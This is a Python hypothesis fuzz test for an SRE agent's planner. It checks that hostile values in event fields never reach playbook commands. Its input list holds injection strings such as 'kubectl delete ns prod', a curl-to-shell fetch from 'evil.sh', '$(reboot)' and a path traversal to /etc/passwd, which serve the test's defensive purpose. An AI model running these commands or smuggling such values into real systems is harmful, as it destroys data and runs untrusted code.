"""Playbook commands cannot be injected from event content (hypothesis).

Everything a playbook template can take from an event -- the hypothesis'
service (from metric labels, alert labels, log streams), evidence refs (pods,
instances), the incident id -- is generated hostile: shell metacharacters,
newlines, path traversal, format-string syntax, option-like leading dashes,
unicode look-alikes, huge strings. For every cause type a playbook covers, the
planner either declines (no plan) or renders steps whose targets are plain
Kubernetes/AWS names and whose string parameters carry no such content.

Every generated input ends in an assertion, none in a bare count: the hostile
value goes into one place (the service, a pod's name or namespace, an EC2 or
RDS id, the incident id) of an RCA result whose benign twin -- the same result
with a plain name there -- must get a plan. Then either the wire schema
refuses the hostile value, or the planner renders a plan whose every target and
parameter is checked, or it declines, which is only right when the value could
not have been a target: the twin's steps with the value put in its place must
fail the target schema.
"""

from __future__ import annotations

import os
import re
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sre_agent.config import ActionSettings
from sre_agent.processors.planner import Planner
from pydantic import ValidationError

from sre_agent.schemas import EvidenceItem, Hypothesis, RcaResult, Target

EXAMPLES = int(os.environ.get("SRE_AGENT_FUZZ_EXAMPLES", "150"))
PLANNER = Planner.from_settings(ActionSettings())
CAUSES = sorted(PLANNER.library.cause_types())

NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,252}$")
NAMESPACE = re.compile(r"^[a-z0-9][a-z0-9-]{0,62}$")
SAFE_PARAM = re.compile(r"^[A-Za-z0-9._:/=+-]*$")

HOSTILE = st.one_of(
    st.sampled_from([
        "api; kubectl delete ns prod", "api && curl evil.sh | sh", "$(reboot)", "`id`",
        "api\nnamespace: kube-system", "../../etc/passwd", "api/../../kube-system",
        "{service.__class__.__mro__}", "{0}", "%s%s%n", "--all-namespaces", "-n kube-system",
        "api'", 'api"', "api\\", "api\u0000", "аpi", "api\u202e", "*", "?", "[a-z]*",
        "x" * 300, " api", "api ", "API", "api|tee", "<script>", "${HOME}", "api#", "api,b",
    ]),
    st.text(min_size=1, max_size=60),
    st.text(alphabet=st.sampled_from(list("abc-._;|&$`(){}<>\\/\n \"'*?[]~!%^=+,#@")),
            min_size=1, max_size=30),
)


def _rca(cause: str, service: str, ref: str, incident: str) -> RcaResult:
    return RcaResult(incident_id=incident, severity="critical", services=[service], hypotheses=[
        Hypothesis(cause_type=cause, service=service, confidence=0.95, summary="x",
                   evidence=[EvidenceItem(kind="k8s", summary="x", weight=1.0, ref=ref)])])


def _strings(obj: Any) -> list[str]:
    if isinstance(obj, str):
        return [obj]
    if isinstance(obj, dict):
        return [s for v in obj.values() for s in _strings(v)]
    if isinstance(obj, (list, tuple)):
        return [s for v in obj for s in _strings(v)]
    return []


#: where the hostile value goes: slot -> (service, ref, incident) with "{v}" for it; the
#: plain twin puts a distinctive benign name there instead
SLOTS: dict[str, tuple[str, str, str]] = {
    "service": ("{v}", "pod/shop/checkout-7f9c", "inc-1"),
    "pod": ("checkout", "pod/shop/{v}", "inc-1"),
    "namespace": ("checkout", "pod/{v}/checkout-7f9c", "inc-1"),
    "instance": ("checkout", "ec2/{v}", "inc-1"),
    "db": ("checkout", "rds/{v}", "inc-1"),
    "incident": ("checkout", "pod/shop/checkout-7f9c", "{v}"),
}
PLAIN = "plainq7"  # a valid name and namespace that occurs nowhere else


def _fill(slot: str, v: str) -> tuple[str, str, str]:
    service, ref, incident = SLOTS[slot]
    return service.replace("{v}", v), ref.replace("{v}", v), incident.replace("{v}", v)


def _twin_plans() -> dict[tuple[str, str], Any]:
    """(cause, slot) -> the plain twin's draft, for the pairs that get a plan."""
    out = {}
    for cause in CAUSES:
        for slot in SLOTS:
            draft = PLANNER.draft(_rca(cause, *_fill(slot, PLAIN)))
            if draft is not None:
                out[(cause, slot)] = draft
    return out


TWINS = _twin_plans()


def _check_safe(draft: Any, why: Any) -> None:
    for step in draft.steps:
        t = step.target
        assert NAME.fullmatch(t.name), (why, t)
        assert NAMESPACE.fullmatch(t.namespace), (why, t)
        for value in _strings(step.params):
            assert SAFE_PARAM.fullmatch(value) and ".." not in value, (why, step.params)


def _could_be_a_target(twin: Any, v: str) -> bool:
    """Would the twin's steps, with ``v`` where the plain name was, pass the target schema?"""
    for step in twin.steps:
        t = step.target
        try:
            Target(kind=t.kind, name=t.name.replace(PLAIN, v),
                   namespace=t.namespace.replace(PLAIN, v), service=t.service)
        except ValidationError:
            return False
    return True


def test_benign_content_gets_plans_so_the_fuzz_is_not_vacuous() -> None:
    planned = [c for c in CAUSES if PLANNER.draft(_rca(c, "checkout", "pod/shop/checkout-7f9c",
                                                       "inc-1"))]
    assert len(planned) >= len(CAUSES) // 2, (planned, CAUSES)
    # every slot is exercised by some cause type, and every cause type by some slot
    assert {slot for _, slot in TWINS} == set(SLOTS), sorted(TWINS)
    assert {cause for cause, _ in TWINS} == set(CAUSES), sorted(TWINS)
    for (cause, slot), twin in TWINS.items():
        _check_safe(twin, (cause, slot))


@settings(max_examples=EXAMPLES * 3, deadline=None, derandomize=EXAMPLES <= 150,
          suppress_health_check=[HealthCheck.too_slow])
@given(pair=st.sampled_from(sorted(TWINS)), value=HOSTILE)
def test_hostile_event_content_never_reaches_a_command(pair: tuple[str, str], value: str) -> None:
    cause, slot = pair
    why = (cause, slot, value)
    try:
        rca = _rca(cause, *_fill(slot, value))
    except ValidationError as exc:  # the wire schema refuses it, naming the field
        assert exc.errors(), why
        return
    draft = PLANNER.draft(rca)
    if draft is not None:
        _check_safe(draft, why)
        # the value reaches a step only as a plain name, never as part of a command
        for step in draft.steps:
            for s in [step.target.name, step.target.namespace, *_strings(step.params)]:
                assert value not in s or NAME.fullmatch(value), (why, s)
        return
    # declined: right only if the value could not have been put into the twin's targets
    assert not _could_be_a_target(TWINS[pair], value), why
